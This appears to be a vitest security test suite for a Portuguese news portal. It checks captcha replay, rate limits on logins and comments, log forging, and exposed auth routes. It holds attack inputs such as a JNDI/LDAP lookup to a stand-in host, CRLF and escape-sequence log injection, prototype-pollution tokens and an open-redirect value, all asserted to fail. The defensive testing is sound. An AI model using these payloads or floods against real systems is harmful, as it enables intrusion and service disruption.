/** Repeated requests: solved captchas, comments, reports, logins, messages; and forged log lines. */
import { readFile } from 'node:fs/promises';
import { expect, it } from 'vitest';
import { solveAltcha } from '../solve-altcha.ts';
import { ask, askJson, countInputs, expectAlive, inParallel, portal } from './attack.ts';
import { attackPassword, commentId, newsId } from './portal-under-attack.ts';

const captcha = countInputs('captcha replay');
const floods = countInputs('report and comment flooding');
const forging = countInputs('log forging');
const surface = countInputs('the /api/auth surface');

const message = {
  nome: 'Caio',
  titulo: 'Pauta',
  email: 'caio@exemplo.com',
  mensagem: 'Falem de impressoras.',
};
const sendMessage = (captchaToken: string, from?: string) =>
  ask('/api/contato', { method: 'POST', body: { ...message, captchaToken }, ...(from ? { from } : {}) });

it('accepts a solved captcha once, and an altered one never', async () => {
  const challenge = await askJson('/api/captcha');
  const token = await solveAltcha(challenge);
  captcha(2);
  const together = await Promise.all(Array.from({ length: 12 }, () => sendMessage(token)));
  captcha(12);
  expect(together.filter(({ status }) => status === 200).length).toBe(1);
  const read = JSON.parse(Buffer.from(token, 'base64').toString());
  const write = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64');
  const altered = [
    '',
    'x',
    token.slice(1),
    `${token}=`,
    token.toLowerCase(),
    write(null),
    write([]),
    write({}),
    write({ ...read, solution: { counter: 0 } }),
    write({ ...read, challenge: { ...read.challenge, signature: 'a' } }),
    write({
      challenge: { ...read.challenge, parameters: { ...read.challenge.parameters, cost: 1 } },
      solution: read.solution,
    }),
    write({ __proto__: null, ...read, verified: true }),
    'a'.repeat(30_000),
    '{"verified":true}',
    'true',
  ];
  await inParallel(altered, async (text) => {
    captcha();
    const answer = await sendMessage(text);
    expect(answer.status, text.slice(0, 40)).toBeGreaterThanOrEqual(400);
    expect(answer.status, text.slice(0, 40)).toBeLessThan(500);
  });
  expect((await sendMessage(token)).status).toBe(400);
});

it('accepts five concurrent comments a minute, and stores each accepted one once', async () => {
  const answers = await Promise.all(
    Array.from({ length: 30 }, (_, index) => {
      floods();
      return ask(`/news/${newsId}/comentarios`, {
        method: 'POST',
        as: 'demoted',
        body: { comment: `Enchente ${index}.` },
      });
    }),
  );
  const taken = answers.filter(({ status }) => status === 201);
  expect(taken.length).toBe(5);
  for (const { status, headers } of answers) {
    expect([201, 429]).toContain(status);
    if (status === 429) expect(Number(headers.get('retry-after'))).toBeGreaterThan(0);
  }
});

it('answers many concurrent reports of one user without a fault, and the comment stays', async () => {
  const answers = await Promise.all(
    Array.from({ length: 40 }, (_, index) => {
      floods();
      return ask(`/comentarios/${commentId}/${index % 4 ? 'denunciar' : 'desfazer-denuncia'}`, {
        method: 'POST',
        as: 'other',
        body: {},
      });
    }),
  );
  for (const { status } of answers) expect(status).toBeLessThan(500);
  expect((await ask(`/news/uma-noticia-atacada`)).text).toContain('Concordo com o texto.');
});

it('limits logins, registrations and requests for mails, however addresses are spelled', async () => {
  const from = '2001:4860:aaaa:1::1';
  const statuses: number[] = [];
  for (let turn = 0; turn < 14; turn += 1) {
    floods();
    const email = turn % 2 ? ' VITIMA@exemplo.com ' : 'vitima@exemplo.com';
    statuses.push(
      (
        await ask('/login', {
          method: 'POST',
          body: { email, password: `errada ${turn}` },
          from: `2001:4860:aaaa:1::${turn}`,
        })
      ).status,
    );
  }
  expect(statuses.filter((status) => status === 429).length).toBe(4);
  const resets = await Promise.all(
    Array.from({ length: 14 }, () =>
      ask('/redefinir-senha', { method: 'POST', body: { email: portal.emails.reader }, from }),
    ),
  );
  floods(14);
  expect(resets.filter(({ status }) => status === 429).length).toBe(4);
});

it('rejects most of 150 concurrent logins of one network, and lets another one in meanwhile', async () => {
  const from = '2001:4860:bbbb:1::1';
  const flood = Array.from({ length: 150 }, async (_, index) => {
    floods();
    const body = { email: `inventado${index}@exemplo.com`, password: 'errada de todo' };
    return (await ask('/login', { method: 'POST', body, from, isOnce: true })).status;
  });
  await Promise.race(flood);
  const body = { email: portal.emails.reader, password: attackPassword };
  expect((await ask('/login', { method: 'POST', body })).status).toBe(200);
  const statuses = await Promise.all(flood);
  // 503: on a slow machine some of those that may wait have waited for ten seconds.
  for (const status of statuses) expect([400, 429, 503]).toContain(status);
  expect(statuses.filter((status) => status === 429).length).toBeGreaterThanOrEqual(90);
});

it('a login on a known device overtakes 90 concurrent logins of as many networks', async () => {
  const body = { email: portal.emails.reader, password: attackPassword };
  const first = await ask('/login', { method: 'POST', body });
  const mark = first.headers.getSetCookie().find((line) => line.startsWith('aparelho='));
  const Cookie = mark?.split(';')[0] ?? '';
  expect(Cookie).not.toBe('');
  let hashed = 0;
  const flood = Array.from({ length: 90 }, async (_, index) => {
    floods();
    const typed = { email: `espalhado${index}@exemplo.com`, password: 'errada de todo' };
    const from = `2001:4861:${index.toString(16)}::1`;
    const { status } = await ask('/login', { method: 'POST', body: typed, from, isOnce: true });
    if (status === 400) hashed += 1;
    return status;
  });
  await Promise.race(flood);
  expect((await ask('/login', { method: 'POST', body, headers: { Cookie } })).status).toBe(200);
  // In the order of arrival it would be the last one. How many are done when it arrives depends on the machine.
  expect(hashed).toBeLessThan(45);
  for (const status of await Promise.all(flood)) expect([400, 503]).toContain(status);
});

it('no request forges lines of the log', async () => {
  const mark = 'LINHAFALSA';
  const texts = [
    `\n{"level":60,"msg":"${mark}"}`,
    `\r\n${mark}`,
    `%0a${mark}`,
    `\u001b[2J${mark}`,
    `\u001b]0;${mark}\u0007`,
    `","level":60,"x":"${mark}`,
    `\u2028${mark}`,
    `\u0085${mark}`,
    `\\n${mark}`,
    `\${jndi:ldap://mal.exemplo/${mark}}`,
    `%s%n%x${mark}`,
    `\u0000${mark}`,
    `\u0008\u0008${mark}`,
  ];
  await inParallel(texts, async (text) => {
    forging(9);
    const asHeader = text.replaceAll(/[^\x20-\x7e]/g, ' ');
    const headers = {
      'User-Agent': asHeader,
      Referer: asHeader,
      'X-Request-Id': asHeader,
      'X-Forwarded-For': asHeader,
    };
    await ask(`/${encodeURIComponent(text)}`, { headers });
    await ask(`/busca?q=${encodeURIComponent(text)}`, { headers });
    await ask('/login', { method: 'POST', body: { email: `${text}@exemplo.com`, password: 'x' }, headers });
    await ask('/contato', { method: 'POST', body: { ...message, nome: text, captchaToken: text }, headers });
    await ask('/api/redacao/resumo', { headers: { ...headers, Cookie: `sessao=${asHeader}` } });
  });
  const log = await readFile(portal.logFile, 'utf8');
  // The portal still writes: the last line may be incomplete.
  for (const line of log.split('\n').slice(0, -1)) {
    if (line === '' || line.startsWith('Pauta em ')) continue;
    const entry = JSON.parse(line);
    expect(entry.level, line).toBeLessThan(60);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what is looked for.
    expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028]/);
  }
});

it('exposes no address of an accounts library', async () => {
  const names = [
    'sign-in/email',
    'sign-up/email',
    'sign-out',
    'get-session',
    'list-sessions',
    'session',
    'update-user',
    'change-email',
    'change-password',
    'set-password',
    'delete-user',
    'forget-password',
    'request-password-reset',
    'reset-password',
    'verify-email',
    'send-verification-email',
    'sign-in/social',
    'link-social',
    'unlink-account',
    'list-accounts',
    'refresh-token',
    'get-access-token',
    'account-info',
    'revoke-session',
    'revoke-sessions',
    'admin/set-role',
    'admin/list-users',
    'admin/impersonate-user',
    'callback/github',
    'callback',
    'ok',
    'error',
    'two-factor/enable',
    'token',
    'jwks',
    '.well-known/openid-configuration',
  ];
  await inParallel(names, async (name) => {
    for (const method of ['GET', 'POST', 'PUT', 'DELETE']) {
      surface();
      const answer = await ask(`/api/auth/${name}`, {
        method,
        as: 'reader',
        ...(method === 'GET'
          ? {}
          : { body: { email: portal.emails.admin, password: 'x', roles: ['admin'] } }),
      });
      expect(answer.status, `${method} ${name}`).toBe(404);
    }
  });
  const states = ['', 'x', '__proto__', 'a'.repeat(3_000), "'", '%00'];
  await inParallel(states, async (state) => {
    surface(2);
    for (const headers of [
      {},
      {
        Cookie: `google=${Buffer.from(JSON.stringify({ state, nonce: state, codeVerifier: state, returnTo: '//mal.exemplo', isWindow: false })).toString('base64url')}`,
      },
    ]) {
      const answer = await ask(
        `/api/auth/callback/google?state=${encodeURIComponent(state)}&code=x&iss=https://mal.exemplo`,
        { headers },
      );
      expect(answer.status, state).toBe(303);
      expect(answer.headers.get('location'), state).toMatch(/^\/login\?/);
      expect(
        answer.headers.getSetCookie().some((line) => line.startsWith('sessao=')),
        state,
      ).toBe(false);
    }
  });
  await expectAlive();
});
